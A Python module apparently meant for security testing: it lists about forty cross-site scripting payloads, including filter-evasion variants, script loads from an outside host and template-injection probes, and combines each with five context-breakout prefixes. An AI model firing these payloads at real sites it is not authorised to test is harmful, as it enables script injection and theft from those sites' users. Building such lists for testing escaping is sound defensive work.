"""Strings that would run a script on a page that does not escape what people type."""

from __future__ import annotations

_PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//example.org/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert`1`>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<a href=javascript:alert(1)>klik</a>",
    "<a href=java&#115;cript:alert(1)>klik</a>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//example.org/>",
    "<link rel=stylesheet href=//example.org/x.css>",
    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
    "<style>@import '//example.org/x.css';</style>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<x onclick=alert(1) onmouseover=alert(1)>lewat</x>",
    "onfocus=alert(1) autofocus x=",
    "{{ 7*7 }}{% raw %}{{ config }}",
    "${alert(1)}<%= alert(1) %>",
    "javascript:alert(1)//",
    "\u202e<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\ufeff\uff1cscript\uff1ealert(1)\uff1c/script\uff1e<!--",
)
# How each gets out of where a page may have put it: as it is, out of an attribute in either
# quotes, out of the elements whose content is no markup, and out of a comment.
_OUT = ("", '">', "'>", "</textarea></title></p>", "--></script>")
NEEDLES = tuple(out + payload for payload in _PAYLOADS for out in _OUT)
